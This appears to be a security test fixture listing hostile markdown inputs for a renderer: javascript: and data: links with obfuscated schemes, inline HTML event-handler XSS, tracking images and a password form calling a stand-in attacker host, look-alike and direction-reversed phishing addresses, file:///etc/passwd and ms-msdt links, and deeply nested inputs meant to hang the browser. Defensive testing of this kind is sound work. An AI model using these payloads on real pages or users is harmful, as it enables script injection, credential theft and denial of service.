/** Markdown that would run, fetch, or wear the reader's browser out. */

import { attacks, beacon, payload } from './attack.ts'

export const markdownAttacks = attacks({
  'a script as a link': `[click me](javascript:${payload})`,
  'a script as a link, with a tab in its scheme': `[click me](java\tscript:${payload})`,
  'a script as a link, in entities': `[click me](&#106;avascript&colon;${payload})`,
  'a script as a link, in capitals': `[click me](JaVaScRiPt:${payload})`,
  'an old script as a link': `[click me](vbscript:MsgBox(1))`,
  'a page in a link': `[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  'an image that calls': `![a chart](${beacon}/image.png)`,
  'an image in a link that calls': `[![badge](${beacon}/badge.svg)](${beacon}/page)`,
  'an image by reference': `![a chart][pic]\n\n[pic]: ${beacon}/reference.png "title"`,
  'a script by reference': `[click me][bad]\n\n[bad]: javascript:${payload}`,
  'a script as an autolink': `<javascript:${payload}>`,
  'an autolink with user info': `<https://accounts.bank.example@beacon.attack.example/login>`,
  'a bare address with user info': 'see https://accounts.bank.example:443@beacon.attack.example/login now',
  'an address that reads like another': `[https://accounts.bank.example](${beacon}/login)`,
  'an address with look-alike letters': '[bank](https://аррӏе.example/login)',
  'an address with the direction turned': '[bank](https://beacon.attack.example/\u202egnp.tnuocca)',
  'a file of the machine': '[open](file:///etc/passwd) ![x](file:///etc/passwd)',
  'a share of the machine': '[open](\\\\beacon.attack.example\\share) ![x](//beacon.attack.example/x.png)',
  'a program of the system':
    '[open](ms-msdt:/id PCWDiagnostic) [open](search-ms:query=x) [call](tel:+100) [open](smb://beacon.attack.example/x)',
  'the app itself':
    '[open](tracecraft://open?source=xray%3A%2F%2Fus-east-1%2F&trace=x) [open](app://tracecraft/index.html)',
  'another view of the app': '[open](#settings) [open](?x=1) [open](/etc/passwd) [open](../../index.html)',
  'a footnote that leads away': 'text[^1]\n\n[^1]: A note with ![x](https://beacon.attack.example/note.png)',
  'HTML as a block': `<div onclick="${payload}"><script>${payload}</script></div>`,
  'HTML within a line': `fine <img src=x onerror="${payload}"> fine`,
  'a frame': `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
  'a form': `<form action="${beacon}/form"><input name=password type=password autofocus onfocus="${payload}"></form>`,
  'quotations within quotations': '>'.repeat(20_000) + ' deep',
  'lists within lists': '- '.repeat(5_000) + 'deep',
  'brackets without end': '['.repeat(30_000),
  'images without end': '!['.repeat(15_000),
  'emphasis without end': '*a **b '.repeat(6_000),
  'a table of many columns': `|${'a|'.repeat(5_000)}\n|${'-|'.repeat(5_000)}\n|${'b|'.repeat(5_000)}`,
  'a fence that never ends': `${'`'.repeat(20_003)}\n<script>${payload}`,
  'task lists that can be ticked': `- [ ] <input type=checkbox onchange="${payload}"> do`,
})
